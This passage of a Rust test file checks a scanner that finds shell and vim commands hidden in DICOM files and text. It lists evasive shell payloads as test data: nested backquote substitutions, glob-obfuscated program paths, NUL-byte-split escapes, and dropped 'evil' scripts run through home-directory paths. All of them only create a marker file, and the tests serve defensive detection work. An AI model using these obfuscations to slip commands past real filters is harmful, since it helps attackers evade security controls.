    ] {
        let file = format!("\0\0\0DICM\x02\0 garbage\n{script}\n").into_bytes();
        assert!(
            runs_in_dir("vim", &["-es", "-u", "NONE", "-i", "NONE"], &file, &[]),
            "vim did not run {script}"
        );
        let mut ct = kit::pydicom_sample("CT_small.dcm");
        let preamble = format!("{script}\n");
        assert!(preamble.len() <= 128, "{script}");
        ct[..128].fill(b'\n');
        ct[..preamble.len()].copy_from_slice(preamble.as_bytes());
        for bytes in [&file, &ct] {
            let found = pacsguard_dicom::find_ex_command(bytes);
            assert!(
                found
                    .as_ref()
                    .is_some_and(|c| c.severity == Severity::Alert),
                "{script}: {found:?}"
            );
        }
    }
    // Functions named by strings that run nothing, and a harmless command in a string.
    for script in [
        "let F = function('s:Format')\ncall call('tolower', ['X'])\n",
        "exe \"call system('ls')\"\n",
        "call call(a:func, a:args)\n",
    ] {
        assert_eq!(
            pacsguard_dicom::find_ex_command(script.as_bytes()),
            None,
            "{script}"
        );
    }
}

/// Review r22-screen: inside backquotes dash removes a backslash before `` ` ``, `$`
/// or `\` before it parses the text, so `` \` `` opens a substitution nested in it
/// (the model read it escaped, and `` `\$(…)` `` as a syntax error of the whole file);
/// and inside a substitution a name made by one (`$($(sh -c …))`) was not judged. dash
/// ran each (created RAN), in a text file as after binary bytes, and each was clean.
#[test]
fn substitutions_nested_in_backquotes_or_making_a_nested_name_are_found() {
    for case in [
        "x=`echo \\`sh -c 'echo x > RAN'\\``\n",
        ": `echo \\`echo \\\\\\`sh -c 'echo x > RAN'\\\\\\`\\``\n",
        "x=`\\$(sh -c 'echo x > RAN')`\n",
        // A hostile command run to make a name inside a substitution.
        "x=`$(sh -c 'echo x > RAN')`\n",
        "x=$($(sh -c 'echo x > RAN'))\n",
        "x=$(`echo sh` -c 'echo x > RAN')\n",
        "x=$($(printf %s sh) -c 'echo x > RAN')\n",
    ] {
        assert_dash_runs_and_it_is_found(case);
    }
    // An escaped backquote whose text runs nothing is still nothing.
    let inert = "x=`echo \\`date\\``\n";
    assert_eq!(find_shell_command(inert.as_bytes()), None, "{inert:?}");
}

/// Review r24-screen: dash expands a command name by pathname expansion before it runs
/// it, so a pattern runs whatever program path it matches, not only the names an
/// attacker's command is known by: `/???/t?uch` runs `/bin/touch`, `./ev?l` and
/// `/tmp/…/ev?l` the payload dropped as `evil`. dash ran each (created RAN), in a text
/// file as after binary bytes, and each was clean (only patterns matching a name such as
/// `sh` or `python3` were looked at).
#[test]
fn programs_named_by_a_pattern_of_a_program_path_are_found() {
    for case in [
        "/???/t?uch RAN\n",
        "/*/b?n/t[o]uch RAN\n",
        "/???/ec?o x > RAN\n",
    ] {
        assert_dash_runs_and_it_is_found(case);
    }
    let payload: (&str, &[u8]) = ("evil", b"#!/bin/sh\necho x > RAN\n");
    let dropped = TempDir::new();
    let dropped_payload = dropped.path("evil");
    std::fs::write(&dropped_payload, payload.1).expect("write");
    {
        use std::os::unix::fs::PermissionsExt;
        std::fs::set_permissions(&dropped_payload, std::fs::Permissions::from_mode(0o755))
            .expect("chmod");
    }
    let in_tmp = format!("{}/ev?l\n", dropped.0.display());
    assert!(in_tmp.starts_with("/tmp/"), "{in_tmp}");
    for case in ["./ev?l\n", "./[e]vil\n", in_tmp.as_str()] {
        assert_dash_runs_beside_and_it_is_found(case, &[payload]);
    }
    // Patterns of data paths, and the comments and globs of C and prose, name no program.
    for inert in [
        "/usr/share/*.txt\n",
        "/etc/*.conf\n",
        "/*[clinic input]\n",
        "/**/*\n",
    ] {
        assert_eq!(find_shell_command(inert.as_bytes()), None, "{inert:?}");
    }
}

/// Review r24-screen: dash drops NUL bytes before its lexer, so a backslash escapes the
/// first byte after its NUL bytes (`s\<NUL><newline>h` is a line continuation, `sh`;
/// `\<NUL>'` an escaped quote), a `$` expands what follows its NUL bytes (`$\0(`,
/// `$\0{`, `$\0((`), and a substitution's text is read without them. dash ran each
/// (created RAN), in a text file as after binary bytes, and each was clean: the model
/// read an escaped NUL, a literal `$`, or a substitution it judged binary for its NUL.
#[test]
fn escapes_and_expansions_split_by_nul_bytes_are_read_as_dash_reads_them() {
    for case in [
        "s\\\0\nh -c 'echo x > RAN'\n",
        "s\\\0\0\0\nh -c 'echo x > RAN'\n",
        ": \\\0' ; sh -c 'echo x > RAN'\n",
        ": \"x\\\0\"\" ; sh -c 'echo x > RAN'\n",
        ": $\0(sh -c 'echo x > RAN')\n",
        ": \"$\0(sh -c 'echo x > RAN')\"\n",
        "X=s; $\0{X}h -c 'echo x > RAN'\n",
        ": $\0((1))\nsh -c 'echo x > RAN'\n",
        ": `\0sh -c 'echo x > RAN'`\n",
        ": $(\0sh -c 'echo x > RAN')\n",
    ] {
        assert_dash_runs_and_it_is_found(case);
    }
}

/// Review r24-screen: a command named by a path in the home or the current directory
/// written as the shell expands it (`~/evil`, `$HOME/evil`, `${HOME}/evil`,
/// `"$PWD"/evil`) runs a payload dropped there, as `./evil` does: dash ran each
/// (created RAN), in a text file as after binary bytes, and each was clean.
#[test]
fn programs_in_the_home_or_current_directory_named_by_expansions_are_found() {
    let payload: (&str, &[u8]) = ("evil", b"#!/bin/sh\necho x > RAN\n");
    for case in [
        "~/evil\n",
        "~/ev?l\n",
        "$HOME/evil\n",
        "${HOME}/evil\n",
        "\"$PWD\"/evil go now\n",
        "X=1 $PWD/evil\n",
    ] {
        // runs_in_dir gives HOME the directory it runs in, which holds the payload.
        assert_dash_runs_beside_and_it_is_found(case, &[payload]);
    }
    // A directory alone, a pattern of stars, another variable, a configuration file
    // (`~/.vimrc ~` and `$HOME/_vimrc ~` in vim's manual): no program of an attacker's.
    for inert in [
        "$HOME/\n",
        "$PWD/*\n",
        "$HOMEDIR/evil\n",
        "~\n",
        "\t~/.vimrc ~\n",
        "\t$HOME/_vimrc ~\n",
        "$HOME/.profile\n",
    ] {
        assert_eq!(find_shell_command(inert.as_bytes()), None, "{inert:?}");
    }
}

/// Review r25-screen: a configuration file's name in the home directory (`~/.x`,
/// `$HOME/_x`) was never a command, the price of keeping vim's `~/.vimrc ~` lines
/// quiet, though dash runs a program planted under such a name as under any other. It
/// is a weak name now: a command with shell syntax and an operand on its line, as
/// `touch x; ...` is. dash ran each case (created RAN), alone and after binary bytes.
#[test]
fn configuration_names_in_the_home_directory_with_shell_syntax_are_found() {
    let payload = b"#!/bin/sh\necho x > RAN\n";
    for (case, name) in [
        ("~/.evil go; :\n", ".evil"),
        ("~/.evil -x > /dev/null\n", ".evil"),
        ("$HOME/_evil go && :\n", "_evil"),
        ("${HOME}/.evil go | cat\n", ".evil"),
    ] {
        assert_dash_runs_beside_and_it_is_found(case, &[(name, payload)]);
    }
    // Listed on a line of a manual, or alone: no command.
    for inert in [
        "\t~/.vimrc ~\n",
        "\t$HOME/_vimrc ~\n",
        "~/.vimrc\n",
        "~/.profile is read by login shells\n",
    ] {
        assert_eq!(find_shell_command(inert.as_bytes()), None, "{inert:?}");
    }
}

/// Review r24-screen: a bracket expression of a pattern holds character classes
/// (`[[:alpha:]]`), which the pattern matcher read as a set closed at the class's `]`,
/// so `/[[:alpha:]]in/touch` matched no program directory: dash ran each (created RAN),
/// in a text file as after binary bytes, and each was clean.
#[test]
fn programs_named_by_a_pattern_with_character_classes_are_found() {
    for case in [
        "/[[:alpha:]]in/touch RAN\n",
        "/[[:lower:]]sr/[![:digit:]]in/touch RAN\n",
    ] {
        assert_dash_runs_and_it_is_found(case);
    }
}
